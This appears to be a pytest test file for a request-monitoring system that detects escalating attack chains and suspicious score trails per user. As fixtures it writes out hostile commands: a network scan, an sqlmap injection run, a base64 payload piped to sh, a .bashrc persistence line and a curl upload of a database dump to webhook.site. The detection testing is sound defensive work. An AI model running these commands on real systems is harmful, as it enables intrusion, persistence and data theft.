"""Does a trail see what single requests do not show, say it once, and forget it after a day?"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from veilig.core.actor import Tier
from veilig.core.canonical import JSON
from veilig.core.ledger_event import Draft
from veilig.monitor.actions import Seen, look
from veilig.monitor.ladder import RANK, Kind, Level, Signal, Standing, on_signal
from veilig.monitor.trails import HALF_LIFE_S, LIFE_S, SCORES, TRAILS_MAX, Trails, chain, top_mean

SCAN, BREAK_IN, RUN = "nmap 203.0.114.0/24", "sqlmap -u https://shop.test/x", "echo aGk= | base64 -d | sh"
STAY, TAKE = "echo x >> ~/.bashrc", "curl -F f=@db.sql https://webhook.site/x"


def steps(*commands: str) -> list[Seen]:
    return [seen for command in commands for seen in look(command, ())]


def test_a_few_bad_requests_among_many_good_ones_raise_one_soft_signal() -> None:
    trails = Trails(0.8)
    scores = [0.1] * 10 + [0.95] * 4
    assert trails.add("ann", scores, (), 0.0) == []
    assert trails.add("ann", [0.1] * 6, (), 1.0) == []
    [signal] = trails.add("ann", [0.95], (), 2.0)
    assert (signal.kind, signal.hard, signal.evidence[0]) == (Kind.MONITOR, False, "trail:scores")
    assert trails.add("ann", [0.95], (), 3.0) == []  # said once; twenty texts later again, if it is still so
    assert trails.add("ben", [0.95] * 4, (), 3.0) == []


@pytest.mark.parametrize(("mean", "told"), [(0.79, 0), (0.8, 1)])
def test_the_mean_of_the_five_highest_decides_at_its_edge(mean: float, told: int) -> None:
    assert len(Trails(0.8).add("ann", [mean] * 5, (), 0.0)) == told


def test_steps_that_follow_each_other_are_told_from_three_on_and_each_time_the_chain_grows() -> None:
    trails = Trails()
    assert trails.add("ann", (), steps(SCAN), 0.0) == []
    assert trails.add("ann", (), steps(BREAK_IN), 1.0) == []
    [third] = trails.add("ann", (), steps(RUN), 2.0)
    assert third.evidence == ("trail:steps", "attack:T1595.001", "attack:T1190", "attack:T1027.010")
    assert trails.add("ann", (), steps(RUN), 3.0) == []
    [fourth] = trails.add("ann", (), steps(TAKE), 4.0)
    assert fourth.severity > third.severity
    assert fourth.kind is Kind.RULE
    assert not fourth.hard


def test_the_same_steps_in_another_order_are_no_chain() -> None:
    assert chain(["T1048", "T1190", "T1595.001"]) == ["T1048"]
    assert chain(["T1595", "T9999", "T1190", "T1595.002", "T1543"]) == ["T1595", "T1190", "T1543"]


def test_five_hosts_out_of_scope_are_told_and_hosts_in_scope_are_not() -> None:
    trails = Trails()
    hosts = [f"nmap h{n}.other.test" for n in range(5)]
    assert trails.add("ann", (), steps(*hosts[:4]), 0.0) == []
    [signal] = trails.add("ann", (), steps(hosts[4]), 1.0)
    assert signal.evidence == ("trail:hosts", "count:5")
    assert trails.add("ben", (), [s for h in hosts for s in look(h, ("*.other.test",))], 0.0) == []


def test_a_trail_fades_and_is_forgotten_after_a_day() -> None:
    assert top_mean([(0.0, 1.0)] * 5, HALF_LIFE_S) == pytest.approx(0.5)
    trails = Trails(0.8)
    trails.add("ann", [0.95] * 4, steps(SCAN, BREAK_IN), 0.0)
    assert trails.add("ann", [0.95], steps(RUN), LIFE_S + 1) == []


def test_trails_are_bounded() -> None:
    trails = Trails()
    for n in range(TRAILS_MAX + 5):
        trails.add(str(n), [0.1], (), 0.0)
    assert len(trails) == TRAILS_MAX


@settings(max_examples=100, deadline=None)
@given(st.lists(st.floats(0, 1), max_size=40), st.floats(0, 1e6))
def test_no_score_makes_the_mean_leave_its_range_and_time_only_lowers_it(
    scores: list[float], later: float
) -> None:
    given_at = [(0.0, score) for score in scores[-SCORES:]]
    assert 0 <= top_mean(given_at, later) <= top_mean(given_at, 0.0) <= 1


def test_trails_of_scores_alone_never_suspend_anybody() -> None:
    standing = Standing("ann")
    trails, level = Trails(0.8), Level.OBSERVE
    for hour in range(200):
        for signal in trails.add("ann", [1.0] * SCORES, (), 60.0 * hour):
            drafts = on_signal(standing, signal, Tier.NEW, 0, new_case="c", request="r")
            standing = _after(standing, signal, drafts)
            level = max(level, standing.level, key=RANK.__getitem__)
    assert level is Level.REROUTE


def _after(now: Standing, signal: Signal, drafts: list[Draft]) -> Standing:
    moved: dict[str, JSON] = next((d.body for d in drafts if d.name == "ladder.moved"), {})
    level = Level(str(moved.get("after", now.level)))
    return Standing(now.subject, level, now.score + signal.severity, case="c" if moved else now.case)
